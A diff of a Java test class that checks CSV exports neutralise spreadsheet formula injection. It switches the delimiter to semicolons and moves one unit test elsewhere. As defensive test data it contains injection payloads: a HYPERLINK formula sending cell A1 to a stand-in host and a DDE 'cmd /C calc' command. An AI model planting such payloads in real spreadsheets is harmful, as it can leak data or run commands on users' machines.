@@ -43,7 +43,7 @@ class SortiesInertesTest {
         List<String> lignes = Files.readAllLines(sortie);
         assertEquals(5, lignes.size(), lignes.toString()); // header and four communes
         for (String l : lignes.subList(1, lignes.size())) {
-            assertTrue(l.startsWith("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"ok\"\")\","), l);
+            assertTrue(l.startsWith("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"ok\"\")\";"), l);
         }
     }
 
@@ -59,9 +59,9 @@ class SortiesInertesTest {
         assertEquals(CodeSortie.DEMANDES_REJETEES, r.code(), r.toString());
         List<String> rejets = Files.readAllLines(erreurs);
         assertEquals(2, rejets.size(), rejets.toString());
-        assertTrue(rejets.get(1).contains(",'@SUM(1+1),logement,'=cmd|' /C calc'!A0,"), rejets.get(1));
+        assertTrue(rejets.get(1).contains(";'@SUM(1+1);logement;'=cmd|' /C calc'!A0;"), rejets.get(1));
         for (String l : rejets) {
-            for (String cellule : l.split(",")) {
+            for (String cellule : l.split(";")) {
                 String c = cellule.startsWith("\"") ? cellule.substring(1) : cellule;
                 assertFalse(c.startsWith("=") || c.startsWith("@") || c.startsWith("+"), l);
             }
@@ -84,14 +84,5 @@ class SortiesInertesTest {
                 r.err());
     }
 
-    @Test
-    void aCellIsInertButANumberKeepsItsSign() {
-        assertEquals("'=1+2", CelluleCsv.neutre("=1+2"));
-        assertEquals("'+33 6", CelluleCsv.neutre("+33 6"));
-        assertEquals("'-1+HYPERLINK(\"x\")", CelluleCsv.neutre("-1+HYPERLINK(\"x\")"));
-        assertEquals("'\\tx", CelluleCsv.neutre("\tx"));
-        assertEquals("-12.5", CelluleCsv.neutre("-12.5"));
-        assertEquals("06088", CelluleCsv.neutre("06088"));
-        assertEquals(3, CelluleCsv.neutre(3));
-    }
+    // A cell made inert, a number left as it is: fr.cotation.csv.CsvWriterTest (cotation-core), the one CSV writer.
 }
